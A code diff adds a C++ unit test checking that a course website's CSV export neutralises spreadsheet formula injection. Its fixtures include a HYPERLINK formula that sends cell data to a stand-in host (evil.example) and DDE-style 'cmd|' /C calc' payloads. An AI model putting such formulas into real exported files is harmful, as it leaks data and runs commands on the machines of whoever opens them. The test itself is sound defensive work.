@@ -165,6 +165,32 @@ TEST_F(CourseSite, CsvHasABomOneRowPerCourseAndIsoDates) {
     EXPECT_THAT(site.page("de/courses/index.html"), HasSubstr("<a href=\"../../courses.csv\">"));
 }
 
+// A cell that a spreadsheet program would read as a formula (=, +, -, @, tab, carriage return first)
+// starts with a quote that the program hides, and stays quoted (OWASP: CSV injection).
+TEST(CoursesCsv, CellsThatWouldRunAsFormulasAreNeutralised) {
+    TestSite site;
+    site.file("content/courses/formel.yaml",
+              course("integration", "2027-01-11", "2027-07-16",
+                     "title: '=HYPERLINK(\"https://evil.example?x=\"&A1,\"Klick\")'\n"
+                     "location: {street: \"@SUM(1+1)*cmd|' /C calc'!A0\", postcode: \"00100\", city: Teststadt, "
+                     "district: \"-2+3+cmd|' /C calc'!A0\"}\n"
+                     "registration: {phone: \"+49 000 1234-56\", email: kurse@vhs.example}\n"));
+    site.file("content/courses/tab.yaml", course("literacy", "2027-02-01", "2027-07-16", "title: \"\\tTab\"\n"));
+    site.file("content/courses/cr.yaml", course("support", "2027-03-01", "2027-07-16", "title: \"\\rCR\"\n"));
+    ASSERT_EQ(site.build(), 0) << site.err();
+    const std::string csv = site.page("courses.csv");
+    EXPECT_THAT(csv, HasSubstr("\r\nformel,\"'=HYPERLINK(\"\"https://evil.example?x=\"\"&A1,\"\"Klick\"\")\","));
+    EXPECT_THAT(csv, HasSubstr(",\"'-2+3+cmd|' /C calc'!A0\",\"'@SUM(1+1)*cmd|' /C calc'!A0, 00100 Teststadt\","));
+    EXPECT_THAT(csv, HasSubstr(",\"'+49 000 1234-56\",kurse@vhs.example,"));
+    EXPECT_THAT(csv, HasSubstr("\r\ntab,\"'\tTab\",Integrationskurs mit Alphabetisierung,"));
+    EXPECT_THAT(csv, HasSubstr("\r\ncr,\"'\rCR\",Förderkurs,"));
+    const auto rows = parse_csv(csv.substr(3));
+    ASSERT_EQ(rows.size(), 4u);
+    EXPECT_EQ(rows[1][1], "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"Klick\")");
+    EXPECT_EQ(rows[1][10], "'-2+3+cmd|' /C calc'!A0");
+    EXPECT_EQ(rows[1][17], "'+49 000 1234-56");
+}
+
 TEST_F(CourseSite, CalendarParsesBackWithLibical) {
     const std::string ics = site.page("courses.ics");
     icalcomponent* calendar = icalparser_parse_string(ics.c_str());
